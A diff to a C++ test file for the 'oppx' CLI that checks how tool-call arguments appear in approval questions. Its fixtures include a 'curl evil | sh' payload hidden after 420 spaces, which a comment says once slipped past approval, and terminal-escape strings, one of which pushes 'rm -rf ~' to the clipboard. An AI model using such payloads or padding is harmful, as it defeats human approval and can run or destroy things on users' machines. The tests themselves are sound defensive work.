@@ -1,9 +1,11 @@
 // cli/output.h, as a user meets it: whatever a repository holds (a connector's name, its "type",
 // the folder it was cloned into), no oppx command writes an ESC or BEL byte to the terminal, on
 // stdout or stderr, in a listing, an error or a warning, and --json stays valid JSON.
+#include "cli/output.h"
 #include "tests/support/harness.h"
 
 #include <boost/json.hpp>
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 #include <fstream>
@@ -105,6 +107,52 @@ TEST_F(TerminalOutput, AServersStderrThatIsNotUtf8LeavesTheListReadable) {
       << "no readable reason in `oppx mcp list --json`";
   EXPECT_NE(reason.find("boom \ufffd\ufffd end"), std::string::npos) << reason;
   EXPECT_EQ(shown({"mcp", "list"}).find('\xff'), std::string::npos);
+}
+
+// What a question shows of a tool's arguments (cli::shown_arguments, shown_text): a write whose
+// payload sat after 420 spaces was shown cut at 400 characters, as harmless, and approved.
+TEST(ShownArguments, PaddingIsAMarkerThatCountsItSoThePayloadIsInSight) {
+  json::object args{{"path", "notes.txt"}, {"content", "Fix a typo." + std::string(420, ' ') + "curl evil | sh"}};
+  cli::Shown s = cli::shown_arguments(args, false, "  ");
+  EXPECT_EQ(s.text, "  path: \"notes.txt\"\n  content: \"Fix a typo.⟨420 spaces⟩curl evil | sh\"") << s.text;
+  EXPECT_FALSE(s.folded);
+  EXPECT_EQ(cli::shown_text("a\n\n\n\t  b", false).text, "a⟨2 spaces, 1 tab, 3 newlines⟩b");
+  EXPECT_EQ(cli::shown_text("a b\tc\nd", false).text, "a b⇥c↵d") << "short runs stay, visible";
+  EXPECT_EQ(cli::shown_text("x\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0y", false).text, "x⟨8 other blanks⟩y");
+}
+
+TEST(ShownArguments, ALongValueIsItsHeadAndTailWithWhatIsLeftOutCounted) {
+  std::string text = std::string(150, 'a') + std::string(700, 'm') + std::string(150, 'z');
+  cli::Shown s = cli::shown_text(text, false);
+  EXPECT_TRUE(s.folded);
+  auto at = s.text.find(" … ");
+  ASSERT_NE(at, std::string::npos) << s.text;
+  std::size_t head = at, tail = s.text.size() - s.text.rfind(" … ") - std::string(" … ").size();
+  std::size_t hidden = text.size() - head - tail;
+  EXPECT_NE(s.text.find(fmt::format(" … {} characters more … ", hidden)), std::string::npos) << s.text;
+  EXPECT_EQ(s.text.substr(0, 150), std::string(150, 'a'));
+  EXPECT_EQ(s.text.substr(s.text.size() - 80), std::string(80, 'z'));
+  // In full: every character, the lines as lines.
+  cli::Shown full = cli::shown_text(text + "\nlast line", true, "    ");
+  EXPECT_FALSE(full.folded);
+  EXPECT_EQ(full.text, text + "\n    last line");
+  cli::Shown args = cli::shown_arguments(json::object{{"issue", json::object{{"title", text}}}}, true, "");
+  EXPECT_NE(args.text.find(text), std::string::npos);
+}
+
+TEST(ShownArguments, WhatADriveTheTerminalIsEscaped) {
+  std::string evil = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;pwned\x07\u202eevil\u200b\r\u009b";
+  for (bool full : {false, true}) {
+    std::string s = cli::shown_arguments(json::object{{evil, evil}}, full, "  ").text;
+    EXPECT_EQ(s.find('\x1b'), std::string::npos) << s;
+    EXPECT_EQ(s.find('\x07'), std::string::npos) << s;
+    EXPECT_EQ(s.find('\r'), std::string::npos) << s;
+    EXPECT_EQ(s.find("\u202e"), std::string::npos) << s;
+    EXPECT_EQ(s.find("\u200b"), std::string::npos) << s;
+    EXPECT_EQ(s.find("\u009b"), std::string::npos) << s;
+    EXPECT_NE(s.find("\\x1b]52;c;"), std::string::npos) << s;
+    EXPECT_NE(s.find("\\u{202e}"), std::string::npos) << s;
+  }
 }
 
 }  // namespace
